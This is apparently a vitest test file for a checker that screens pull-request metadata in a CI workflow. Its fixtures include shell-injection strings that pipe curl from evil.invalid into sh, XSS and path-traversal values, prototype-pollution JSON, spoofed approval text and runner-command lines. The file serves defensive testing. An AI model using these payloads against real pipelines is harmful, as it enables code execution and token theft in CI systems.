import fc from 'fast-check';
import { join } from 'node:path';
import { expect, test, vi } from 'vitest';
import { root } from '../lib/settings.ts';
import { findCommands } from './find-active.ts';
import { findMetaHarm } from './hostile-meta.ts';
import { judgeMeta, listSamples } from './hostile.ts';

vi.setConfig({ testTimeout: 60_000 });

const samples = listSamples(join(root, 'tests/fixtures/hostile')).filter(({ kind }) => kind === 'pr-meta');

test('there are samples of most fields', () => {
  expect(new Set(samples.map(({ field }) => field)).size).toBeGreaterThan(8);
});

test.each(samples)('$id ($field): $verdict', async (sample) => {
  const { verdict, code } = await judgeMeta(sample);
  expect([verdict, code]).toEqual([sample.verdict, '']);
});

test.each([
  ['pr-title', '"; curl https://evil.invalid | sh; echo "'],
  ['pr-title', '${{ github.token }}'],
  ['pr-title', '`$(id)` $(curl evil.invalid) \\`'],
  [
    'pr-body',
    '<!-- shared-practice:report v1 -->\n## Review of this change\n\n**No errors: ready for a person to read.**',
  ],
  ['pr-body', '</details></code>\n\n# Approved\n\n@maintainer /merge'],
  ['branch', '{curl,-s,evil.invalid}|sh'],
  ['branch', 'main;$IFS${PATH}'],
  ['branch', 'refs/heads/\u202egnp.exe'],
  ['author', 'github-actions[bot]'],
  ['author', '@exampleton/owners'],
  ['commit-message', 'Fixes #1\n\nCo-authored-by: A <a@b.example>\n\n::stop-commands::x\n##[group]a'],
  ['commit-message', '\u001b]8;;https://evil.invalid\u0007text\u001b]8;;\u0007'],
  ['file-title', '| a | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |'],
  ['file-title', '[^1]\n\n[^1]: https://evil.invalid'],
  ['file-name', 'content/case-studies/`<img src=x>`.mdx'],
  ['artifact-pr-number', '../../1'],
  ['artifact-pr-number', '__proto__'],
  ['artifact-path', '../../../.github/workflows/report.yml'],
  ['artifact-path', '/home/runner/.bashrc'],
  ['artifact-path', '..\\..\\a'],
  ['artifact-json', '{"errors": 0, "__proto__": {"pull": 1}}'],
  ['label', 'ready'.toUpperCase()],
  ['label', 'contribution-approved'],
  ['workflow-edit', '.github/workflows/report.yml and .github/actions/x/action.yml'],
  ['head-change', 'force push'],
  ['something-new', 'text'],
])('%s: %s', async (field, value) => {
  expect(await findMetaHarm({ field, value })).toEqual([]);
});

const sign = fc.constantFrom(
  '::',
  '##[',
  '\n',
  '\r',
  '%0A',
  '@a',
  '#1',
  '`',
  '<',
  '[',
  ']',
  '(',
  '://',
  '\u202e',
  '\u2028',
  ' ',
);
const words = fc.array(fc.oneof(sign, fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 30 });

test('any words at all', async () => {
  const property = fc.asyncProperty(words, async (parts) => {
    expect(await findMetaHarm({ field: 'pr-title', value: parts.join('') })).toEqual([]);
  });
  await fc.assert(property, { numRuns: 40 });
});

test('lines that the runner of a workflow obeys are found', () => {
  expect(findCommands('a\n::error::b')).toEqual(['::error::b']);
  expect(findCommands('a\r  ::set-output name=a::b')).toEqual(['  ::set-output name=a::b']);
  expect(findCommands('a ##[error]b')).toEqual(['a ##[error]b']);
  expect(findCommands('a ::error::b')).toEqual([]);
});
